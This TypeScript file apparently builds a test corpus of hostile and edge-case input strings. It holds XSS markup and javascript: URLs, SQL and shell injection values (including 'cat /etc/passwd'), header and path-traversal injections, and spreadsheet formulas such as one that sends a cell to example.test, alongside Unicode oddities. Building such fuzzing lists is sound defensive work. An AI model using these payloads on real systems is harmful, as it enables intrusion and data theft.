// Lists several hundred texts that have broken programs before.

/** Leaves a trace if a text is ever run as code. */
const PWN = 'window.pwned=1';

/** Joins every start with every end. */
const crossed = (starts: readonly string[], ends: readonly string[]): string[] =>
  starts.flatMap((start) => ends.map((end) => start + end));

const MARKUP = crossed(
  [
    '',
    '">',
    "'>",
    '</textarea>',
    '</title>',
    '</style>',
    '</script>',
    '</template>',
    '-->',
    ']]>',
    '</mark></blockquote>',
    '<!--',
    '\u0000',
  ],
  [
    `<script>${PWN}</script>`,
    `<img src=x onerror=${PWN}>`,
    `<svg onload=${PWN}>`,
    `<svg><script>${PWN}//`,
    `<details open ontoggle=${PWN}>`,
    `<iframe srcdoc="<script>parent.${PWN}</script>">`,
    `<a href="javascript:${PWN}">x</a>`,
    `<input autofocus onfocus=${PWN}>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
    `<style>@import'javascript:${PWN}'</style>`,
  ],
);

const ATTRIBUTES = crossed(
  ['"', "'", '`', '" ', "' ", '"\t', '"/', "\\'", '\\"', '&quot;', '&#39;', '&#x22;'],
  [
    `onclick=${PWN} x="`,
    `onfocus="${PWN}" autofocus`,
    `style="animation:x" onanimationstart="${PWN}"`,
    `><b onmouseover=${PWN}>`,
  ],
);

const ADDRESSES = crossed(
  [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
    ' javascript:',
    'javascript&colon;',
    'javascript&#58;',
    'vbscript:',
    'data:text/html,<script>',
    'data:text/html;base64,',
    'blob:',
    'file:///',
    'view-source:javascript:',
    'about:blank#',
    '//example.test/',
    'http://user:pass@example.test:99999/',
    'http://[::1',
    'https://example.test/%',
    'mailto:a@example.test?bcc=b@example.test&body=',
  ],
  [PWN, `//%0a${PWN}`, `\u2028${PWN}`],
);

const TEMPLATES = crossed(
  ['{{', '${', '#{', '<%= ', '{%', '[[', '@(', '$(', '${{', '{{{', '<?lit$', '*{'],
  [`constructor.constructor('${PWN}')()`, '7*7', '__proto__.polluted=1', 'self.__init__.__globals__'],
).map((text) => text + ({ '{': '}}', $: '}', '<': '%>', '[': ']]', '#': '}', '@': ')', '*': '}' }[text[0]!] ?? ''));

const MARKERS = [
  '<?lit$1$>',
  '<!--?lit$123456789$-->',
  '<!--lit-part-->',
  '<!--/lit-part-->',
  'lit$',
  '{"_$litType$":1}',
  '?lit$',
  '<!---->',
  '<!-->',
  '--!>',
];

const QUERIES = crossed(
  ["'", '"', "')", '1', "\\'", '%27', "'/**/", '`'],
  [
    '; DROP TABLE reports;--',
    " OR '1'='1",
    ' UNION SELECT null,null,sql FROM sqlite_master--',
    " AND 1=(SELECT CASE WHEN 1 THEN 1 ELSE json('') END)",
    '; ATTACH DATABASE x AS y;',
    ' || randomblob(1e9)',
  ],
);

const SHELL = crossed(
  ['$(', '`', '; ', '| ', '&& ', '\n', '%0a', '|| '],
  ['touch /tmp/pwned', 'sleep 9', 'cat /etc/passwd', '$HOME'],
);

const HEADERS = crossed(
  ['\r\n', '\n', '\u2028', '%0d%0a', '\u560D\u560A'],
  [
    'Bcc: all@example.test',
    'Set-Cookie: a=b',
    'event: report\ndata: {}',
    '\r\nHTTP/1.1 200 OK',
    'id: 999999999',
    '.\r\nQUIT',
  ],
);

const FORMATS = [
  '%s%s%s%s%n',
  '%d %x %p',
  '%1$*1$x',
  '{0}',
  '{max}',
  '{keys}',
  '{n}',
  '%@%@',
  '$&',
  '$1$2',
  "$`$'",
  '$$',
  '\\0\\x00\\u0000',
  '%00',
  '%',
  '%%',
  '%zz',
  '%E0%A4%A',
  '&',
  '&amp;amp;',
  '&lt;script&gt;',
  '&#0;',
  '&#x110000;',
  '\\',
  '\\\\',
  '\\"',
  '/',
  '//',
  '?',
  '#',
  '+',
  '%2B',
  '%20',
  ':~:text=x',
  '#:~:text=a-,b,-c',
  '=',
  ';',
  ',',
  '|',
];

const FORMULAS = crossed(
  ['=', '+', '-', '@', '\t=', '\r=', '＝', '"='],
  ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://example.test?"&A1,"x")', 'IMPORTXML("http://example.test","//a")'],
);

const PATHS = crossed(
  ['../', '..\\', '....//', '%2e%2e%2f', '..%c0%af', '/', '\\\\?\\C:\\', 'file:'],
  ['etc/passwd', 'inbox.js', 'con', '.env\u0000.html'],
);

const NUMBERS = [
  '0',
  '-0',
  '00',
  '1',
  '-1',
  '1e309',
  '-1e309',
  'NaN',
  'Infinity',
  '0x7fffffff',
  '2147483648',
  '9007199254740993',
  '18446744073709551616',
  '0.1',
  '.5',
  '1,000',
  '1.000,5',
  '1_000',
  '٣',
  '½',
  '∞',
  '²',
  '0b11',
  '1e-7',
  '08',
  '1/0',
];

const WORDS = [
  'undefined',
  'null',
  'true',
  'false',
  'nil',
  'None',
  '[object Object]',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'toJSON',
  'then',
  'length',
  'id',
  'exact',
  'CON',
  'PRN',
  'NUL',
  'admin',
  'null\u0000',
  '{}',
  '[]',
  '{"__proto__":{"polluted":1}}',
  '[[[[[[[[[[',
  '""',
  "''",
  '()',
  'function(){}',
  '<>',
  '<',
  '>',
  'a<b>c',
  '<b>',
  '</p>',
  'Scunthorpe',
  'Тест <тест> тест',
];

/** Puts `count` combining marks on a letter. */
const towerOf = (letter: string, count: number): string =>
  letter + Array.from({ length: count }, (_, index) => String.fromCodePoint(0x300 + (index % 0x6f))).join('');

const INVISIBLE = [
  '\u0000',
  '\u0001',
  '\u0007',
  '\u0008',
  '\u000b',
  '\u000c',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u00ad',
  '\u034f',
  '\u061c',
  '\u115f',
  '\u180e',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u200e',
  '\u200f',
  '\u2028',
  '\u2029',
  '\u202a',
  '\u202e',
  '\u2060',
  '\u2066',
  '\u2069',
  '\u3000',
  '\u3164',
  '\ufeff',
  '\ufff9',
  '\ufffc',
  '\ufffe',
  '\uffff',
  '\u{e0001}',
  '\u{e0041}',
  '\u{f0000}',
  '\u{10ffff}',
  '\ue000',
];
const UNICODE = [
  ...INVISIBLE.map((char) => `до${char}после`),
  ...['\ud800', '\udfff', '\udc00\ud800', 'a\ud83d', '\ude00b', '\ud83d\ud83d\ude00'].map(
    (half) => `половина ${half} пары`,
  ),
  ...[
    '\u202eоборот',
    '\u202dслева\u202c',
    '\u2067справа\u2069',
    '\u2066\u2067\u2068незакрытое',
    'файл\u202egpj.exe',
    '\u202e\u202d\u202c\u202c\u202c',
    'a\u200fb\u200ec',
  ],
  ...['А', 'і', 'ё', 'й', 'Å', 'ﬁ', 'ſ', 'ß', 'İ', 'ı', 'Ǆ', 'Ω', 'K', '𝒜', '①', 'ﷺ', '﷽', '𒐫', 'ௌ', 'ක්‍ෂ'],
  ...['раураl', 'аррlе', 'gооglе', 'ехаmрlе', 'Ροστ', 'ᴀᴅᴍɪɴ', '𝐛𝐨𝐥𝐝', 'ｆｕｌｌ', 'Ɩӏ1|l'],
  ...['😀', '👩‍👩‍👧‍👦', '🏳️‍🌈', '👍🏿', '🇰🇿🇷🇺', '1️⃣', '❤️', '☃︎', '🫠🫡', '🧑🏽‍🤝‍🧑🏻', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '\u{1f600}\ufe0f\u20e3'],
  ...['שלום עולם', 'مرحبا بالعالم', 'سلام\u200cعلیکم', 'שָׁלוֹם', 'test אבג 123 test', 'العربية (English) ١٢٣', 'ܫܠܡܐ'],
  ...[
    '日本語テキスト',
    '简体字',
    '한국어',
    'ภาษาไทย',
    'हिन्दी',
    'ქართული',
    'Հայերեն',
    'қазақша әңғүұқөһі',
    'ﾊﾝｶｸ',
    '田中さん',
    '𠜎𠜱𠝹',
  ],
  ...[5, 30, 120].map((count) => towerOf('e', count)),
  towerOf('я', 60) + towerOf('й', 60),
  '\u0301начало',
  'e\u0301 é E\u0301 É',
];

/** All texts, each once. */
export const STRINGS: readonly string[] = [
  ...new Set([
    ...MARKUP,
    ...ATTRIBUTES,
    ...ADDRESSES,
    ...TEMPLATES,
    ...MARKERS,
    ...QUERIES,
    ...SHELL,
    ...HEADERS,
    ...FORMATS,
    ...FORMULAS,
    ...PATHS,
    ...NUMBERS,
    ...WORDS,
    ...UNICODE,
  ]),
];
